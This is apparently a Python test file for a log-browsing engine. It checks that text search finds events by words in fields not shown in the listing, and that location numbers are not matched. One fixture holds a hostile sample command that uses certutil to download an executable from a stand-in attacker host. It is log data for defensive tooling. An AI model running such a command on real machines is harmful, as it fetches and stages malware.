"""出来事の表を見わたす：言葉は、画面に並ばない項目からも探す。"""

from __future__ import annotations

from pathlib import Path

from hikeshi.engines.logs.browsing import Look, browse
from tests.engines.logs.test_shards import batch, written


def test_words_are_looked_for_in_every_field(tmp_path: Path) -> None:
    """一覧に出ない項目にある言葉でも、そのできごとが見つかる。場所の番号は言葉ではない。"""
    made = {
        "event.action": ["t", "t", "t"],
        "CommandLine": ["certutil -urlcache -f http://evil.example/a.exe", None, None],
        "Hashes": [None, ("a", "SHA256=Abc"), None],
    }
    folder = written(tmp_path / "out", batch(made, [12_345.0, 0.0, 1.0]))
    found = {text: browse([folder], Look(text=text)).total for text in ("URLCACHE", "sha256=abc", "12345", "nothing")}
    assert found == {"URLCACHE": 1, "sha256=abc": 1, "12345": 0, "nothing": 0}
    assert browse([folder], Look(text="a.log")).total == 3
